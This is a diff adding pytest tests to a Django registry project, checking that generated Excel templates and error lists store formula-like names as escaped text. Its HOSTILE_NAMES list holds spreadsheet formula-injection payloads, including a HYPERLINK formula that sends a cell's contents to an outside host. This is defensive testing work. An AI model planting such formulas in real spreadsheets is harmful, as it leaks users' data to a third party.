@@ -5,8 +5,10 @@ import io
 import openpyxl
 import pytest
 
+from registry.models import IndustryChain, Zone
 from registry.resources import EnterpriseResource
 from registry.sheets.columns import Column
+from registry.sheets.formats import write_xlsx
 from registry.sheets.reader import read_rows
 from registry.sheets.template import build_template
 from registry.sheets.widgets import BoolCell, ChoiceCell, DateCell, DecimalCell, TextCell, UsccCell
@@ -62,3 +64,37 @@ class EnterpriseTemplateTests:
         assert table["县(区)"][5] == "定海区、普陀区、岱山县、嵊泗县"
         assert "船舶海工" in table["产业链"][5]
         assert table["行业代码"][5] in ("", None)  # too many classes to list
+
+
+HOSTILE_NAMES = ('=HYPERLINK("http://x.cn/?"&A1,"点击")', "+1", "-2+3", "@SUM(1)", "\x01=1+1")
+
+
+def every_cell(data):
+    book = workbook(data)
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+@pytest.mark.django_db
+class TemplateFormulaTests:
+    def test_it_writes_reference_names_that_look_like_formulas_as_text(self):
+        Zone.objects.create(code="0-evil", name=HOSTILE_NAMES[0], sort_order=0)
+        IndustryChain.objects.create(code="0-plus", name="+1", sort_order=0)
+        cells = every_cell(build_template(EnterpriseResource.columns))
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+        assert any(text.startswith("'" + HOSTILE_NAMES[0]) for text in texts)
+        assert any(text.startswith("'+1") for text in texts)
+
+    def test_it_writes_hostile_headers_meanings_and_examples_as_text(self):
+        columns = [Column("企业名称", "name", TextCell(), meaning=name, example=name) for name in HOSTILE_NAMES]
+        cells = every_cell(build_template(columns))
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        assert "'=1+1" in [cell.value for cell in cells]  # a control character in front does not hide the formula
+
+
+class ErrorListFormulaTests:
+    def test_it_writes_every_error_cell_as_text(self):
+        rows = [(2, name, f"{name}：找不到该企业") for name in HOSTILE_NAMES]
+        cells = every_cell(write_xlsx(("行号", "列", "错误原因"), rows, title="错误清单"))
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        assert [cell.value for cell in cells if cell.column == 2][1:] == ["'" + name.lstrip("\x01") for name in HOSTILE_NAMES]
